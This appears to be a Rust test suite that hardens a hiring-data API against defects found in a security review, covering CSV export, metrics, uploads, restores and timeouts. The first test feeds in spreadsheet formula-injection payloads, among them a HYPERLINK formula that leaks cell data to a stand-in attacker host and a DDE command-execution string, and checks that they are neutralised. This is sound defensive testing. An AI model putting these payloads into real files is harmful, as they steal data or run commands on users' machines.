//! Issue 16, hardening second round: each test shows a defect the review found, driven the way
//! an attacker or an unlucky operator would.

use serde_json::json;
use sqlx::PgPool;

use crate::helpers::{READ_TOKEN, TestApp};

/// Item 10: a name that starts a spreadsheet formula is served as text in every CSV answer,
/// and verbatim in JSON.
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn csv_answers_never_carry_a_live_formula(pool: PgPool) {
    let app = TestApp::start(pool).await;
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
    // Two departments, so the formula's one hires above the mean.
    let (status, body) =
        app.batch("departments", &json!([{"id": 1, "department": formula}, {"id": 2, "department": "Support"}])).await;
    assert_eq!(status, 200, "{body}");
    for (id, job) in [(1, "+1+cmd|' /C calc'!A0"), (2, "@SUM(1+1)"), (3, "-2+3"), (4, "\tTab"), (5, "Analyst")] {
        app.batch("jobs", &json!([{"id": id, "job": job}])).await;
    }
    let mut hires: Vec<_> = (1..=5)
        .map(|job| json!({"id": job, "name": format!("Ann {job}"), "datetime": "2021-02-01T00:00:00Z", "department_id": 1, "job_id": job}))
        .collect();
    hires.push(json!({"id": 6, "name": "Bo", "datetime": "2021-02-01T00:00:00Z", "department_id": 2, "job_id": 5}));
    assert_eq!(app.batch("hired_employees", &json!(hires)).await.0, 200);

    for path in ["/metrics/hires?year=2021&format=csv", "/metrics/departments?year=2021&format=csv"] {
        let text = app.client.get(app.url(path)).bearer_auth(READ_TOKEN).send().await.unwrap().text().await.unwrap();
        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{path}: a live formula cell {cell:?} in\n{text}"
                );
            }
        }
        assert!(text.contains("'=HYPERLINK("), "{path}: the name is kept, as text:\n{text}");
    }
    let (_, json) = app.get_json("/metrics/hires?year=2021").await;
    assert!(json.to_string().contains(r#"=HYPERLINK(\"http://evil.example"#), "JSON stays verbatim: {json}");
}

/// Item 12: a client sending made-up methods cannot make new metric series.
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn made_up_methods_fold_into_one_series(pool: PgPool) {
    let app = TestApp::start(pool).await;
    for n in 0..20 {
        let method = reqwest::Method::from_bytes(format!("X{n}METHOD").as_bytes()).unwrap();
        app.client.request(method, app.url("/health")).send().await.unwrap();
    }
    let text = app.client.get(app.url("/metrics")).bearer_auth(READ_TOKEN).send().await.unwrap().text().await.unwrap();
    assert!(!text.contains("METHOD\""), "a client's method became a label value:\n{text}");
    assert!(text.contains("method=\"other\""), "the unknown methods are counted as other:\n{text}");
}

/// Item 8: an upload holds at most one part per table; more is refused before anything is
/// stored or loaded.
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn an_upload_with_a_table_twice_is_refused_whole(pool: PgPool) {
    let app = TestApp::start(pool).await;
    let parts: Vec<(&str, &str, Vec<u8>)> = (0..50).map(|_| ("jobs", "jobs.csv", b"1,Analyst\n".to_vec())).collect();
    let (status, body) = app.upload(&parts).await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["error"]["code"], "duplicate_table", "{body}");
    let ingestions: i64 = sqlx::query_scalar("SELECT count(*) FROM ingestions").fetch_one(&app.pool).await.unwrap();
    assert_eq!((ingestions, app.count("jobs").await), (0, 0), "nothing was recorded or loaded");
    let raw = app.data_dir.path().join("raw").join("jobs");
    let left = std::fs::read_dir(&raw).map(|d| d.count()).unwrap_or(0);
    assert_eq!(left, 0, "no part stayed in {}", raw.display());
}

/// Item 5: a raw zone named with another spelling of the staging directory is the same place:
/// the upload keeps its file (it was copied onto itself, then deleted).
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn a_raw_zone_spelled_otherwise_keeps_the_uploaded_file(pool: PgPool) {
    let data = tempfile::tempdir().unwrap();
    let spelled = format!("file://{}/./raw/", data.path().display());
    let app = TestApp::start_with(pool, |s| {
        s.data_dir = data.path().to_owned();
        for (zone, url) in &mut s.zone_urls {
            *url = match zone {
                hiring::zones::ZoneName::Raw => spelled.clone(),
                other => data.path().join(other.name()).display().to_string(),
            };
        }
    })
    .await;
    let report = app.upload_csv("jobs", "1,Analyst\n2,Manager\n").await;
    assert_eq!(report["inserted"], 2, "{report}");
    let (_, ingestion) = app.get_json(&format!("/ingestions/{}", report["id"])).await;
    let key = ingestion["object_key"].as_str().expect("a key").to_owned();
    let stored = data.path().join("raw").join(&key);
    assert_eq!(
        std::fs::read(&stored).map_err(|e| format!("{}: {e}", stored.display())),
        Ok(b"1,Analyst\n2,Manager\n".to_vec())
    );
}

/// Item 2: a restore of the hires that overlaps a rollup compaction (held open here in a second
/// session, so the interleaving is certain) leaves the metrics equal to the hires, not doubled.
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn a_restore_overlapping_a_compaction_keeps_the_rollup_exact(pool: PgPool) {
    let app = TestApp::start(pool.clone()).await;
    app.load_sample().await;
    let backup = app.client.post(app.url("/backups/hired_employees")).bearer_auth(crate::helpers::TOKEN).send();
    let key: serde_json::Value = backup.await.unwrap().json().await.unwrap();
    // New hires append deltas for a compaction to fold.
    let hires: Vec<_> = (900_001..=900_020)
        .map(|id| json!({"id": id, "name": "New", "datetime": "2021-05-05T00:00:00Z", "department_id": 1, "job_id": 1}))
        .collect();
    assert_eq!(app.batch("hired_employees", &json!(hires)).await.0, 200);

    let mut compaction = pool.begin().await.unwrap();
    sqlx::query("SELECT hires_rollup_compact()").execute(&mut *compaction).await.unwrap();
    let restore = app
        .client
        .post(app.url("/restore/hired_employees"))
        .bearer_auth(crate::helpers::TOKEN)
        .json(&json!({ "key": key["key"] }))
        .send();
    let restore = tokio::spawn(restore);
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    compaction.commit().await.unwrap();
    let restored = restore.await.unwrap().unwrap();
    assert_eq!(restored.status(), 200, "{}", restored.text().await.unwrap());

    hiring::metrics::compact_rollup(&pool).await.unwrap();
    let counted: i64 = sqlx::query_scalar("SELECT coalesce(sum(q1 + q2 + q3 + q4), 0)::bigint FROM hires_rollup")
        .fetch_one(&pool)
        .await
        .unwrap();
    let hires: i64 = sqlx::query_scalar("SELECT count(*) FROM hired_employees").fetch_one(&pool).await.unwrap();
    assert_eq!(counted, hires, "the rollup counts {counted} hires for {hires} rows");
}

/// Item 4: when a later part of an upload cannot be stored in the raw zone, the parts stored
/// before it are removed: the upload fails whole, and nothing of it is left to be loaded (in
/// `stepfunctions` mode each stored part's event would start a load) or orphaned.
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn an_upload_whose_later_part_cannot_be_stored_leaves_nothing(pool: PgPool) {
    let raw = tempfile::tempdir().unwrap();
    // A file where the jobs folder would go: storing the jobs part fails, after the departments.
    std::fs::write(raw.path().join("jobs"), b"in the way").unwrap();
    let raw_url = raw.path().display().to_string();
    let app = TestApp::start_with(pool, |s| {
        for (zone, url) in &mut s.zone_urls {
            if *zone == hiring::zones::ZoneName::Raw {
                *url = raw_url.clone();
            }
        }
    })
    .await;
    let (status, body) = app
        .upload(&[
            ("departments", "departments.csv", b"1,Sales\n".to_vec()),
            ("jobs", "jobs.csv", b"1,Analyst\n".to_vec()),
        ])
        .await;
    assert!(status >= 500, "{status} {body}");
    let departments = raw.path().join("departments");
    let left = std::fs::read_dir(&departments).map(|d| d.count()).unwrap_or(0);
    assert_eq!(left, 0, "the departments part stayed in the raw zone ({})", departments.display());
    let ingestions: i64 = sqlx::query_scalar("SELECT count(*) FROM ingestions").fetch_one(&app.pool).await.unwrap();
    assert_eq!((ingestions, app.count("departments").await), (0, 0));
}

/// Item 6: a write whose client got the deadline's 503 still works in the background, and keeps
/// its write permit until it ends: more writes answer `busy` instead of piling up behind it.
/// The load is held by a second session's lock on its table, so the timing is certain.
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn a_timed_out_write_keeps_its_permit_until_its_work_ends(pool: PgPool) {
    let app = TestApp::start_with(pool.clone(), |s| {
        s.max_concurrent_writes = 1;
        s.request_timeout = std::time::Duration::from_secs(1);
    })
    .await;
    let mut blocker = pool.begin().await.unwrap();
    sqlx::query("LOCK TABLE jobs IN ACCESS EXCLUSIVE MODE").execute(&mut *blocker).await.unwrap();
    let (status, body) = app.batch("jobs", &json!([{"id": 1, "job": "Analyst"}])).await;
    assert_eq!((status, body["error"]["code"].as_str()), (503, Some("timeout")), "{body}");
    // The first batch still waits for the lock: the next write must not start beside it.
    let (status, body) = app.batch("jobs", &json!([{"id": 2, "job": "Manager"}])).await;
    assert_eq!((status, body["error"]["code"].as_str()), (503, Some("busy")), "{body}");
    blocker.commit().await.unwrap();
    // Once it ends, the permit is free again, and the timed-out batch did commit.
    let mut answered = 0;
    for _ in 0..50 {
        answered = app.batch("jobs", &json!([{"id": 3, "job": "Engineer"}])).await.0;
        if answered == 200 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(answered, 200);
    let jobs: Vec<i32> = sqlx::query_scalar("SELECT id FROM jobs ORDER BY id").fetch_all(&pool).await.unwrap();
    assert_eq!(jobs, [1, 3], "the timed-out batch committed; the refused one did not");
}

/// Item 6, the outcome half: a write whose client got the deadline's 503 goes on, and the 503
/// says how to learn how it ended. An upload names the ingestions it started (and they finish);
/// a batch says to send the same batch again, which is safe: its rows then count as unchanged.
#[sqlx::test(migrator = "hiring::MIGRATOR")]
async fn a_timed_out_write_tells_how_to_learn_its_outcome(pool: PgPool) {
    let app = TestApp::start_with(pool.clone(), |s| {
        s.request_timeout = std::time::Duration::from_secs(1);
        s.upload_timeout = std::time::Duration::from_secs(1);
    })
    .await;
    let mut blocker = pool.begin().await.unwrap();
    sqlx::query("LOCK TABLE departments IN ACCESS EXCLUSIVE MODE").execute(&mut *blocker).await.unwrap();
    let (status, body) = app.upload(&[("departments", "departments.csv", b"1,Sales\n2,Support\n".to_vec())]).await;
    assert_eq!((status, body["error"]["code"].as_str()), (503, Some("timeout")), "{body}");
    let ingestions = body["error"]["ingestions"].as_array().expect("the ingestions that go on").clone();
    assert_eq!(ingestions.len(), 1, "{body}");
    let id = ingestions[0].as_i64().unwrap();
    let message = body["error"]["message"].as_str().unwrap();
    assert!(message.contains(&format!("goes on as ingestion {id}: follow GET /ingestions/{id}")), "{message}");

    let (status, body) = app.batch("departments", &json!([{"id": 3, "department": "Ops"}])).await;
    assert_eq!((status, body["error"]["code"].as_str()), (503, Some("timeout")), "{body}");
    let message = body["error"]["message"].as_str().unwrap();
    assert!(message.contains("send the same batch again"), "{message}");
    assert!(body["error"].get("ingestions").is_none(), "{body}");
    blocker.commit().await.unwrap();

    // The upload's ingestion ends, as its 503 said to follow it.
    let mut ingestion = json!(null);
    for _ in 0..100 {
        ingestion = app.get_json(&format!("/ingestions/{id}")).await.1;
        if ingestion["status"] == "succeeded" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(
        (ingestion["status"].as_str(), ingestion["inserted"].as_i64()),
        (Some("succeeded"), Some(2)),
        "{ingestion}"
    );
    // The batch, sent again as told, finds its row stored by the first attempt.
    let mut again = json!(null);
    for _ in 0..50 {
        let (status, body) = app.batch("departments", &json!([{"id": 3, "department": "Ops"}])).await;
        again = body;
        if status == 200 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!((again["inserted"].as_i64(), again["unchanged"].as_i64()), (Some(0), Some(1)), "{again}");
}
